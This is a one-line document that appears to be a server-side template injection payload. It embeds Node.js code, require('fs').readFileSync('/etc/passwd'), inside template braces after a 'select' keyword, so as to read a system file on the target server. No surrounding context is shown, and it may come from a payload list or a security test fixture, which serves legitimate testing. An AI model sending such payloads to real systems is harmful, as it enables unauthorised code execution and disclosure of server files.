select {{ require('fs').readFileSync('/etc/passwd') }}
